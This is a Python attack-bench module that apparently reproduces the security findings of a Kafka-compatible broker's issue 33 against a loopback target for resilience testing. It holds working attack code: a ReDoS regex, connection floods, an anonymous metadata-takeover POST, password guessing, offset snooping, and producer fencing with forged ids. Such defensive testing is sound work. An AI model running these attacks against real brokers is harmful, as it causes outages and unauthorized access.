"""The attacks of issue 33, each as one client would run it, for the attack bench (bench/attacks/section.py).

Each attack is a function `(target, stop) -> counters` that attacks until `stop` is set and returns what it got
back (answers by error code or HTTP status, connections opened and closed by the broker). They are the issue's
reproductions, bounded to one client: one connection for a request loop, the issue's connection and thread
counts for the floods. `KAFKA_APPLIES` names those Apache Kafka has the same surface for (the Kafka protocol);
the others are Kelp's HTTP API, which Kafka does not have.

It must never attack anything but the target's loopback addresses, nor run past `stop` by more than one
request's bound.
"""

from __future__ import annotations

import base64
import http.client
import json
import multiprocessing
import selectors
import socket
import threading
import time
from collections import Counter
from dataclasses import dataclass
from typing import Any, Callable

from kelp.kafka_client.security import ConnectionSecurity

__all__ = ["ATTACKS", "KAFKA_APPLIES", "Target", "EVIL_PATTERN"]

EVIL_PATTERN = "(.*.*)*X"  # issue 33 item 1: exponential backtracking in a backtracking engine
PREAUTH_CONNECTIONS = 650  # item 2: the count of connections with partial frames
PREAUTH_FRAME = 500_000  # under the 512 KiB both brokers allow before authentication
PREAUTH_SENT = 250_000  # bytes of it each connection sends, then holds
IDLE_CONNECTIONS = 10_000  # item 5
BASIC_THREADS = 24  # item 7
REQUEST_BOUND_S = 10.0


@dataclass
class Target:
    """A broker under attack: its SASL listener, its HTTP API (None: Kafka has none), the attacker's SCRAM
    identity (may write the honest topic, describe every transactional id, read groups named mallory*), an
    existing user the password guesser aims at, the honest clients' topic and a topic the attacker may not
    describe."""

    broker: str
    bootstrap: str
    http_url: str | None
    mallory: ConnectionSecurity
    mallory_basic: tuple[str, str]
    victim_user: str
    topic: str
    secret_topic: str


def _host_port(address: str) -> tuple[str, int]:
    host, _, port = address.split(",")[0].rpartition(":")
    return host, int(port)


def _request_loop(target: Target, stop: threading.Event, make: Callable[[int], tuple[Any, int]],
                  code: Callable[[int, Any], str]) -> Counter[str]:
    """One authenticated connection sending `make(i)`'s (request, version) one after another until `stop`;
    `code(i, answer)` names the answer."""
    from kelp.kafka_client.blocking_connection import BlockingConnection
    from kelp.kafka_client.errors import KafkaClientError

    host, port = _host_port(target.bootstrap)
    got: Counter[str] = Counter()
    conn = BlockingConnection(host, port, client_id="mallory", timeout_s=REQUEST_BOUND_S, security=target.mallory)
    i = 0
    try:
        while not stop.is_set():
            request, version = make(i)
            i += 1
            try:
                got[code(i - 1, conn.request(request, version))] += 1
            except KafkaClientError as exc:
                got[type(exc).__name__] += 1
                stop.wait(0.1)
    finally:
        conn.close()
    return got


# -- the Kafka protocol ------------------------------------------------------------------------------------------
def list_transactions_regex(target: Target, stop: threading.Event) -> Counter[str]:
    """Item 1: ListTransactions v2 with a backtracking pattern, one connection, one request after another (and
    the same pattern through `GET /admin/v1/transactions?pattern=` where there is an HTTP API)."""
    from kafka.protocol.admin import ListTransactionsRequest

    http = None
    if target.http_url is not None:
        http = threading.Thread(target=_http_loop, args=(target, stop, "GET", "/admin/v1/transactions?pattern="
                                                         + _quote(EVIL_PATTERN), None, target.mallory_basic),
                                daemon=True)
        http.start()
    got = _request_loop(target, stop, lambda _i: (ListTransactionsRequest(
        state_filters=[], producer_id_filters=[], duration_filter=-1, transactional_id_pattern=EVIL_PATTERN), 2),
        lambda _i, r: f"error {r.error_code}, {len(r.transaction_states)} listed")
    if http is not None:
        http.join(REQUEST_BOUND_S + 5)
    return got


def _quote(text: str) -> str:
    from urllib.parse import quote

    return quote(text, safe="")


def produce_two_batches(target: Target, stop: threading.Event) -> Counter[str]:
    """Item 9: a plain batch then a transactional batch carrying another producer's id, for one partition."""
    from kafka.protocol.producer import ProduceRequest

    from kelp.records.build import build_batch

    topic_data = ProduceRequest.TopicProduceData

    def make(i: int) -> tuple[Any, int]:
        records = (build_batch([(b"mallory", b"plain")])
                   + build_batch([(b"mallory", b"smuggled")], producer_id=i % 64, producer_epoch=0,
                                 is_transactional=True))
        return ProduceRequest(transactional_id=None, acks=-1, timeout_ms=5000, topic_data=[topic_data(
            name=target.topic, partition_data=[topic_data.PartitionProduceData(index=0, records=records)])]), 8

    return _request_loop(target, stop, make,
                         lambda _i, r: f"error {r.responses[0].partition_responses[0].error_code}")


def init_producer_id_fence(target: Target, stop: threading.Event) -> Counter[str]:
    """Item 10: InitProducerId without a transactional id, naming producer ids 0..63 (the honest producer's among
    them) at epoch 0: the old code answered the id named at the next epoch, fencing its owner."""
    from kafka.protocol.producer import InitProducerIdRequest

    def make(i: int) -> tuple[Any, int]:
        return InitProducerIdRequest(transactional_id=None, transaction_timeout_ms=60_000, producer_id=i % 64,
                                     producer_epoch=0), 4

    def code(i: int, r: Any) -> str:
        if r.error_code:
            return f"error {r.error_code}"
        return "the id named, next epoch (fenced)" if r.producer_id == i % 64 else "a fresh id"

    return _request_loop(target, stop, make, code)


def _hold_sockets(target: Target, stop: threading.Event, *, count: int, frame: bytes) -> Counter[str]:
    """`count` connections to the SASL listener, each sending `frame` (maybe nothing) and holding; one the broker
    closes is opened again, for as long as the attack lasts."""
    host, port = _host_port(target.bootstrap)
    sel = selectors.DefaultSelector()
    got: Counter[str] = Counter()

    def open_one() -> None:
        s = socket.socket()
        s.settimeout(2.0)
        try:
            s.connect((host, port))
            if frame:
                s.sendall(frame)
        except OSError:
            got["connect or send failed"] += 1
            s.close()
            return
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
        got["opened"] += 1

    try:
        while not stop.is_set():
            for _ in range(count - len(sel.get_map())):
                if stop.is_set():
                    break
                open_one()
            for key, _ in sel.select(timeout=0.2):
                s = key.fileobj
                assert isinstance(s, socket.socket)
                try:
                    data = s.recv(65536)
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    data = b""
                if not data:  # closed by the broker: open another
                    sel.unregister(s)
                    s.close()
                    got["closed by the broker"] += 1
    finally:
        got["held at the end"] = len(sel.get_map())
        for key in list(sel.get_map().values()):
            key.fileobj.close()  # type: ignore[union-attr]  # every registered object is a socket
        sel.close()
    return got


def preauth_partial_frames(target: Target, stop: threading.Event) -> Counter[str]:
    """Item 2: 650 unauthenticated connections, each announcing a 500,000-byte frame and sending half of it."""
    frame = PREAUTH_FRAME.to_bytes(4, "big") + b"\0" * PREAUTH_SENT
    return _hold_sockets(target, stop, count=PREAUTH_CONNECTIONS, frame=frame)


def idle_connections(target: Target, stop: threading.Event) -> Counter[str]:
    """Item 5: 10,000 idle unauthenticated connections from one address."""
    return _hold_sockets(target, stop, count=IDLE_CONNECTIONS, frame=b"")


# -- Kelp's HTTP API (Kafka has none) -----------------------------------------------------------------------------
def _http_loop(target: Target, stop: threading.Event, method: str, path: str, body: Any,
               basic: tuple[str, str] | None, got: Counter[str] | None = None) -> Counter[str]:
    """One keep-alive HTTP connection sending the same request until `stop`; counts statuses."""
    assert target.http_url is not None
    got = got if got is not None else Counter()
    host, port = _host_port(target.http_url.removeprefix("http://"))
    headers = {"Content-Type": "application/json"}
    if basic is not None:
        headers["Authorization"] = "Basic " + base64.b64encode(f"{basic[0]}:{basic[1]}".encode()).decode()
    data = json.dumps(body).encode() if body is not None else None
    conn = http.client.HTTPConnection(host, port, timeout=REQUEST_BOUND_S)
    try:
        while not stop.is_set():
            try:
                conn.request(method, path, body=data, headers=headers)
                resp = conn.getresponse()
                resp.read()
                got[f"HTTP {resp.status}"] += 1
            except (OSError, http.client.HTTPException) as exc:
                got[type(exc).__name__] += 1
                conn.close()
                conn = http.client.HTTPConnection(host, port, timeout=REQUEST_BOUND_S)
                stop.wait(0.05)
    finally:
        conn.close()
    return got


def _threads(n: int, fn: Callable[[Counter[str]], Any]) -> Counter[str]:
    got: Counter[str] = Counter()
    lock = threading.Lock()

    def one() -> None:
        mine: Counter[str] = Counter()
        fn(mine)
        with lock:
            got.update(mine)

    threads = [threading.Thread(target=one, daemon=True) for _ in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(REQUEST_BOUND_S + 10)
    return got


def cluster_metadata_takeover(target: Target, stop: threading.Event) -> Counter[str]:
    """Item 3: a non-broker POSTs a controller epoch of 2^31-1 and no brokers to `/cluster/v1/metadata`."""
    body = {"controller_epoch": 2147483647, "brokers": [], "entries": []}
    return _threads(2, lambda got: _http_loop(target, stop, "POST", "/cluster/v1/metadata", body, None, got))


def anonymous_http_admin(target: Target, stop: threading.Event) -> Counter[str]:
    """Item 4: anonymous topic creation and listing through the HTTP admin API beside a SASL listener."""
    return _threads(2, lambda got: _http_loop(target, stop, "POST", "/admin/v1/topics", {"name": "anonymous-topic"},
                                              None, got))


def metrics_scrape(target: Target, stop: threading.Event) -> Counter[str]:
    """Item 6: `/metrics` scraped in a loop, anonymously and as an authenticated user who is no scraper."""
    return _threads(2, lambda got: (_http_loop(target, stop, "GET", "/metrics", None, None, got),
                                    _http_loop(target, stop, "GET", "/metrics", None, target.mallory_basic, got)))


def basic_password_guessing(target: Target, stop: threading.Event) -> Counter[str]:
    """Item 7: 24 threads of HTTP Basic with wrong passwords for an existing SCRAM user."""
    return _threads(BASIC_THREADS, lambda got: _http_loop(target, stop, "GET", "/admin/v1/topics", None,
                                                          (target.victim_user, "wrong-password"), got))


def rest_offsets_snooping(target: Target, stop: threading.Event) -> Counter[str]:
    """Item 8: a REST consumer instance of the attacker's own group asks the committed offsets of a topic it may
    not describe."""
    assert target.http_url is not None
    host, port = _host_port(target.http_url.removeprefix("http://"))
    auth = "Basic " + base64.b64encode(":".join(target.mallory_basic).encode()).decode()
    v2 = "application/vnd.kafka.v2+json"
    conn = http.client.HTTPConnection(host, port, timeout=REQUEST_BOUND_S)
    conn.request("POST", "/consumers/mallory-group", body=json.dumps({"format": "binary"}),
                 headers={"Authorization": auth, "Content-Type": v2})
    resp = conn.getresponse()
    created = json.loads(resp.read() or b"{}")
    conn.close()
    if resp.status != 200:
        return Counter({f"create consumer: HTTP {resp.status}": 1})
    path = created["base_uri"].split(f"{port}", 1)[1]
    got: Counter[str] = Counter()
    offsets = {"partitions": [{"topic": target.secret_topic, "partition": 0}]}
    try:
        return _http_loop(target, stop, "GET", path + "/offsets", offsets, target.mallory_basic, got)
    finally:
        conn = http.client.HTTPConnection(host, port, timeout=REQUEST_BOUND_S)
        try:
            conn.request("DELETE", path, headers={"Authorization": auth, "Content-Type": v2})
            conn.getresponse().read()
        except (OSError, http.client.HTTPException):
            pass
        finally:
            conn.close()


# Issue 33's numbered attacks, in the order run; the regex last (Kafka's backtracking thread may never finish).
ATTACKS: dict[str, tuple[str, Callable[[Target, threading.Event], Counter[str]]]] = {
    "preauth-frames": ("2: 650 unauthenticated connections holding half a 500 kB frame", preauth_partial_frames),
    "cluster-metadata": ("3: anonymous POST /cluster/v1/metadata, epoch 2^31-1", cluster_metadata_takeover),
    "anonymous-admin": ("4: anonymous POST /admin/v1/topics", anonymous_http_admin),
    "idle-connections": ("5: 10,000 idle unauthenticated connections", idle_connections),
    "metrics-scrape": ("6: /metrics scraped, anonymous and by a non-scraper", metrics_scrape),
    "basic-guessing": ("7: 24 threads of wrong HTTP Basic passwords", basic_password_guessing),
    "rest-offsets": ("8: REST committed offsets of an undescribable topic", rest_offsets_snooping),
    "two-batches": ("9: Produce, a plain and a smuggled transactional batch", produce_two_batches),
    "init-producer-id": ("10: InitProducerId naming producer ids 0..63", init_producer_id_fence),
    "regex": ("1: ListTransactions v2 pattern (.*.*)*X", list_transactions_regex),
}
KAFKA_APPLIES = frozenset({"preauth-frames", "idle-connections", "two-batches", "init-producer-id", "regex"})


def _attack_here(name: str, target: Target, seconds: float) -> dict[str, Any]:
    """Attack `target` for `seconds` from a thread of the calling process; what the attacker got back."""
    fn = ATTACKS[name][1]
    stop = threading.Event()
    out: dict[str, Any] = {}

    def attack() -> None:
        try:
            out["got"] = fn(target, stop)
        except Exception as exc:  # reported beside the figures: an attack that could not run
            out["error"] = f"{type(exc).__name__}: {exc}"

    thread = threading.Thread(target=attack, daemon=True)
    thread.start()
    thread.join(seconds)
    stop.set()
    thread.join(REQUEST_BOUND_S + 20)
    if thread.is_alive():
        out["error"] = "the attacker did not stop within its bound"
    return {"got": dict(out.get("got") or {}), **({"error": out["error"]} if "error" in out else {})}


def _attacker_main(name: str, target: Target, conn: Any) -> None:
    """The attacker process: ready once imported, attacks when told for how long, answers what it got."""
    conn.send("ready")
    seconds = conn.recv()
    conn.send(_attack_here(name, target, seconds))
    conn.close()


class Attacker:
    """One attack in a process of its own, started (and its imports done) before its phase begins.

    Why a process: the honest clients' delivery callbacks and consumer loop, which timestamp every record, are
    Python in the bench's process; an attacker's threads there (thousands of sockets opened in a loop) held the
    GIL and stretched the honest latencies they measured, while the attacked broker's CPU stayed at 12%."""

    def __init__(self, name: str, target: Target) -> None:
        ctx = multiprocessing.get_context("spawn")  # the bench's process has librdkafka's threads: never fork it
        self._conn, child = ctx.Pipe()
        self._proc = ctx.Process(target=_attacker_main, args=(name, target, child), daemon=True)
        self._proc.start()
        child.close()
        if not self._conn.poll(60) or self._conn.recv() != "ready":
            self._proc.kill()
            raise RuntimeError(f"the {name} attacker process did not start within 60 s")

    def run(self, seconds: float) -> dict[str, Any]:
        """Attack for `seconds`; what the attacker got back."""
        self._conn.send(seconds)
        result: dict[str, Any]
        if self._conn.poll(seconds + REQUEST_BOUND_S + 30):
            result = self._conn.recv()
        else:
            result = {"got": {}, "error": "the attacker did not stop within its bound"}
        self._proc.join(10)
        if self._proc.is_alive():
            self._proc.kill()
            self._proc.join(5)
        return result


def wait_listening(address: str, timeout_s: float = 30.0) -> None:
    """Until a TCP connection to `address` succeeds (after a flood, before the next phase)."""
    deadline = time.monotonic() + timeout_s
    while True:
        try:
            socket.create_connection(_host_port(address), timeout=2.0).close()
            return
        except OSError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.2)
